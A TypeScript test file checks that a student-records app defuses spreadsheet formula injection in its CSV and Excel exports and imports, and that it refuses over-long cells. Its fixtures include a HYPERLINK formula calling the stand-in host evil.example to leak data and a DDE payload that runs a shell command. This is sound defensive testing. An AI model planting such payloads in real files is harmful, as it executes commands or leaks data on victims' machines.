import { asc, eq } from 'drizzle-orm'
import ExcelJS from 'exceljs'
import Papa from 'papaparse'
import { beforeAll, describe, expect, it } from 'vitest'
import type { ImportPreview } from '../../../shared/schemas/student-imports.ts'
import { students } from '../../db/schema/students.ts'
import { adminSuite } from '../../test-support/sign-in.ts'
import { asUser, type TestApp } from '../../test-support/test-app.ts'

const hyperlink = '=HYPERLINK("http://evil.example/?leak","Click")'
const dde = "-2+3+cmd|' /C calc'!A0"

describe('formulas and long cells in the students’ spreadsheets', () => {
  let t: TestApp
  let admin: string
  adminSuite((s) => ({ t, admin } = s))
  let code: string

  const upload = async (file: Uint8Array | string, name: string) => {
    const form = new FormData()
    form.append('file', new File([file], name))
    const res = await t.app.request('/api/students/imports', {
      method: 'POST',
      headers: { Authorization: `Bearer ${admin}` },
      body: form,
    })
    expect(res.status, await res.clone().text()).toBe(201)
    return res
  }
  const preview = async (file: Uint8Array | string, name: string) =>
    (await (await upload(file, name)).json()) as ImportPreview
  const errorsByLine = (p: ImportPreview) =>
    Object.fromEntries(p.rows.map((r) => [r.line, r.errors]))
  const xlsxOf = async (rows: string[][]) => {
    const book = new ExcelJS.Workbook()
    book.addWorksheet('Students').addRows(rows)
    return new Uint8Array(await book.xlsx.writeBuffer())
  }

  beforeAll(async () => {
    // A student whose name and address were typed as formulas (before imports refused them).
    const [student] = await t.database.db
      .select()
      .from(students)
      .orderBy(asc(students.studentCode))
      .limit(1)
    code = student!.studentCode
    await t.database.db
      .update(students)
      .set({ fullName: hyperlink, fatherName: '@SUM(1+1)', address: dde })
      .where(eq(students.id, student!.id))
  })

  it('neutralises formula-looking text in the CSV and Excel exports', async () => {
    const csv = await (await asUser(t, admin, 'GET', `/api/students/export.csv?q=${code}`)).text()
    const [headings, row] = Papa.parse<string[]>(csv.replace(/^\uFEFF/, '').trimEnd()).data
    const cell = (heading: string) => row![headings!.indexOf(heading)]
    expect(cell('Student ID')).toBe(code)
    expect(cell('Full name')).toBe(`'${hyperlink}`)
    expect(cell("Father's name")).toBe("'@SUM(1+1)")
    expect(cell('Address')).toBe(`'${dde}`)

    const xlsx = await asUser(t, admin, 'GET', `/api/students/export.xlsx?q=${code}`)
    const bytes = new Uint8Array(await xlsx.arrayBuffer())
    const book = new ExcelJS.Workbook()
    await book.xlsx.load(bytes.buffer)
    const sheet = book.worksheets[0]!
    const value = (heading: string) => {
      const column = (sheet.getRow(1).values as unknown[]).indexOf(heading)
      return sheet.getRow(2).getCell(column).value
    }
    expect(value('Student ID')).toBe(code)
    expect(value('Full name')).toBe(`'${hyperlink}`)
    expect(value("Father's name")).toBe("'@SUM(1+1)")
    expect(value('Address')).toBe(`'${dde}`)
    expect(sheet.getRow(2).getCell(2).type).toBe(ExcelJS.ValueType.String)

    // Uploaded again, the export's formulas are refused, from the CSV and the XLSX alike.
    const refused = {
      fullName: [{ code: 'import_formula_text' }],
      fatherName: [{ code: 'import_formula_text' }],
      address: [{ code: 'import_formula_text' }],
    }
    expect(errorsByLine(await preview(csv, 'students.csv'))[2]).toMatchObject(refused)
    expect(errorsByLine(await preview(bytes, 'students.xlsx'))[2]).toMatchObject(refused)
  })

  it('refuses cells that would run as formulas, the same from a CSV and an XLSX', async () => {
    const rows = [
      ['Full name', 'Guardian phone', 'Class', 'Address'],
      [hyperlink, '01711000001', 'Play', ''],
      ['@SUM(1+1)', '01711000002', 'Play', ''],
      ['Tabbed Name', '01711000003', 'Play', dde],
      ['Plain Name', '+8801711000004', 'Play', "'=quoted by an export"],
    ]
    const csv = Papa.unparse(rows)
    for (const p of [await preview(csv, 'a.csv'), await preview(await xlsxOf(rows), 'a.xlsx')]) {
      expect(errorsByLine(p)).toEqual({
        2: { fullName: [{ code: 'import_formula_text' }] },
        3: { fullName: [{ code: 'import_formula_text' }] },
        4: { address: [{ code: 'import_formula_text' }] },
        5: { address: [{ code: 'import_formula_text' }] },
      })
      expect(p.counts).toMatchObject({ total: 4, invalid: 4 })
      expect(p.rows[0]!.values.fullName).toBe(hyperlink)
    }
    // A phone number with its country code is a number, not a formula.
    const phone = await preview(
      Papa.unparse(rows.slice(0, 1).concat([rows[4]!.slice(0, 3)])),
      'b.csv',
    )
    expect(phone.counts).toMatchObject({ new: 1, invalid: 0 })
  })

  it('shows long cells cut in the preview, refused with their length', async () => {
    const huge = 'x'.repeat(10 * 1024 * 1024)
    const csv = [
      'Full name,Guardian phone,Class,Address',
      `${'N'.repeat(130)},01711000005,Play,${huge}`,
      `Short Name,01711000006,${'C'.repeat(600)},`,
    ].join('\n')
    const res = await upload(csv, 'long.csv')
    const answer = await res.text()
    // The answer does not carry the 10 MB cell back.
    expect(answer.length).toBeLessThan(5000)
    const p = JSON.parse(answer) as ImportPreview
    expect(errorsByLine(p)).toEqual({
      2: {
        fullName: [{ code: 'import_cell_too_long', values: { max: 120, length: 130 } }],
        address: [{ code: 'import_cell_too_long', values: { max: 500, length: huge.length } }],
      },
      3: { class: [{ code: 'import_cell_too_long', values: { max: 500, length: 600 } }] },
    })
    expect(p.rows[0]!.values).toMatchObject({
      fullName: `${'N'.repeat(100)}…`,
      address: `${'x'.repeat(100)}…`,
    })
    expect(p.rows[1]!.values.class).toBe(`${'C'.repeat(100)}…`)
    // Read again, the kept preview is as short.
    const again = await asUser(t, admin, 'GET', `/api/students/imports/${p.id}`)
    expect((await again.text()).length).toBeLessThan(5000)
  })
})
